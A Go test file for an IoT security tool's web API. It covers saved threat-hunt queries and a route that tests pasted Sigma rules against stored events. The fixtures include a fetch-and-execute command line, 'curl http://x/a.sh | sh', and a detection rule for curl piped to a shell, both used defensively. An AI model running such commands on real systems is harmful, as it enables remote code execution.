package web

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/store"
	"github.com/vigil-iot/vigil/web/api"
)

// TestSavedQueryRoutes saves, lists, replaces and deletes hunt queries
// through the API: the author is the caller, a bad query is refused with
// its position, a viewer may list and not write, writes are audited.
func TestSavedQueryRoutes(t *testing.T) {
	e := newEnv(t, func(o *Options) {
		o.Extra = SavedQueryRoutes(SavedQueriesAPI{Store: o.Store, Clock: fixedClock(now)})
	})
	code, body, _ := e.do("POST", "/api/v1/hunt/saved", "analyst", `{"name":" curl/sh ","query":"process.command_line=*curl* | stats count by device.id"}`)
	if code != 201 {
		t.Fatalf("save = %d %s", code, body)
	}
	var q store.SavedQuery
	json.Unmarshal(body, &q)
	if q.Name != "curl/sh" || q.Author != "token:test-analyst" || !q.Created.Equal(now) {
		t.Fatalf("saved %+v", q)
	}
	for _, bad := range []struct{ body, want string }{
		{`{"name":"x","query":"| stats count by"}`, "position"},
		{`{"name":"","query":"kind=auth"}`, "want 1 to 100 characters"},
		{`{"name":"x","query":""}`, "query"},
	} {
		code, body, _ := e.do("POST", "/api/v1/hunt/saved", "analyst", bad.body)
		if code != 400 || !strings.Contains(string(body), bad.want) {
			t.Errorf("save %s = %d %s, want 400 saying %q", bad.body, code, body, bad.want)
		}
	}
	if code, _, _ := e.do("POST", "/api/v1/hunt/saved", "viewer", `{"name":"v","query":"kind=auth"}`); code != 403 {
		t.Errorf("save as viewer = %d, want 403", code)
	}
	if code, body, _ := e.do("POST", "/api/v1/hunt/saved", "admin", `{"name":"curl/sh","query":"kind=process"}`); code != 201 {
		t.Fatalf("replace = %d %s", code, body)
	}
	var l api.List[store.SavedQuery]
	e.get("/api/v1/hunt/saved", 200, &l)
	if len(l.Items) != 1 || l.Items[0].Query != "kind=process" || l.Items[0].Author != "token:test-admin" {
		t.Fatalf("list = %+v", l.Items)
	}
	if code, _, _ := e.do("DELETE", "/api/v1/hunt/saved/"+url.PathEscape("curl/sh"), "viewer", ""); code != 403 {
		t.Fatalf("delete as viewer = %d, want 403", code)
	}
	if code, body, _ := e.do("DELETE", "/api/v1/hunt/saved/"+url.PathEscape("curl/sh"), "analyst", ""); code != 204 {
		t.Fatalf("delete = %d %s", code, body)
	}
	if code, _, _ := e.do("DELETE", "/api/v1/hunt/saved/"+url.PathEscape("curl/sh"), "analyst", ""); code != 404 {
		t.Fatalf("delete again = %d, want 404", code)
	}
	recs, err := e.store.ListAudit(context.Background(), 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	var ok []string
	for _, r := range recs {
		if r.Outcome == vigil.OutcomeOK {
			ok = append(ok, r.Actor+" "+r.Action+" "+r.Object)
		}
	}
	want := "token:test-analyst hunt.save hunt:curl/sh,token:test-admin hunt.save hunt:curl/sh,token:test-analyst hunt.unsave hunt:curl/sh"
	if strings.Join(ok, ",") != want {
		t.Errorf("audit ok = %v, want %s", ok, want)
	}
}

const testRule = `title: Curl to a shell
id: 3b1d6a8e-0000-4000-8000-000000000001
logsource:
  category: process_creation
detection:
  selection:
    CommandLine|contains: curl
  filter:
    User: root
  condition: selection and not filter
level: high
`

// TestRuleTestRoute evaluates a pasted Sigma rule on the most recent
// stored events: the matches with their explanation, the limit, the time
// range, bad YAML refused with its line, viewers refused, nothing stored.
func TestRuleTestRoute(t *testing.T) {
	e := newEnv(t, func(o *Options) {
		o.Extra = RuleTestRoutes(&RuleTest{Store: o.Store, Clock: fixedClock(now)})
	})
	var evs []vigil.Event
	for i := range 1500 {
		user := "alice"
		if i%4 == 0 {
			user = "root"
		}
		evs = append(evs, vigil.Event{ID: fmt.Sprint("e", i), Time: now.Add(-time.Duration(i) * time.Minute), DeviceID: fmt.Sprint("cam-", i%3), Kind: "process",
			Fields: map[string]any{"process.command_line": []string{"curl http://x/a.sh | sh", "sshd"}[i%2], "user.name": user}})
	}
	if err := e.store.PutEvents(t.Context(), evs); err != nil {
		t.Fatal(err)
	}
	post := func(role string, in RuleTestRequest, want int) (RuleTestResponse, string) {
		t.Helper()
		b, _ := json.Marshal(in)
		code, body, _ := e.do("POST", "/api/v1/rules/test", role, string(b))
		if code != want {
			t.Fatalf("rule test as %s = %d %s, want %d", role, code, body, want)
		}
		var res RuleTestResponse
		json.Unmarshal(body, &res)
		return res, string(body)
	}
	// All 1500: curl on even i, root on i%4==0: 375 match (e2, e6, ...).
	res, _ := post("analyst", RuleTestRequest{RuleYAML: testRule}, 200)
	if res.Rules != 1 || res.Scanned != 1500 || res.Matched != 375 || len(res.Items) != 375 || res.Truncated {
		t.Fatalf("rules %d scanned %d matched %d items %d", res.Rules, res.Scanned, res.Matched, len(res.Items))
	}
	first := res.Items[0] // newest first: e2
	if first.EventID != "e2" || first.DeviceID != "cam-2" || res.Items[374].EventID != "e1498" || first.RuleID != "3b1d6a8e-0000-4000-8000-000000000001" ||
		fmt.Sprint(first.Selections) != "[selection]" || len(first.Matches) != 1 || first.Matches[0].Value != "curl http://x/a.sh | sh" {
		t.Fatalf("first match %+v", first)
	}
	// The 100 most recent: e0..e99, 25 match.
	if res, _ = post("admin", RuleTestRequest{RuleYAML: testRule, Limit: 100}, 200); res.Scanned != 100 || res.Matched != 25 || res.Items[24].EventID != "e98" {
		t.Fatalf("limit 100: scanned %d matched %d", res.Scanned, res.Matched)
	}
	// The last hour: e0..e60 (since inclusive).
	if res, _ = post("analyst", RuleTestRequest{RuleYAML: testRule, Since: "-1h"}, 200); res.Scanned != 61 || !res.From.Equal(now.Add(-time.Hour)) {
		t.Fatalf("since -1h: scanned %d from %v", res.Scanned, res.From)
	}
	for _, bad := range []struct {
		yaml string
		want string
	}{
		{"title: x\ndetection:\n  selection:\n    a: [1\n", "line 3"},
		{"title: x\nlogsource:\n  product: linux\ndetection:\n  selection:\n    a: b\n  condition: selection and nope\n", "line "},
		{"", "paste a Sigma rule"},
	} {
		_, body := post("analyst", RuleTestRequest{RuleYAML: bad.yaml}, 400)
		if !strings.Contains(body, bad.want) {
			t.Errorf("rule %q: %s, want %q", bad.yaml, body, bad.want)
		}
	}
	post("analyst", RuleTestRequest{RuleYAML: testRule, Limit: MaxRuleTestEvents + 1}, 400)
	post("viewer", RuleTestRequest{RuleYAML: testRule}, 403)
	if as, _, _ := e.store.ListAlerts(t.Context(), store.AlertFilter{}); len(as) != 0 {
		t.Errorf("a rule test stored %d alerts", len(as))
	}
}
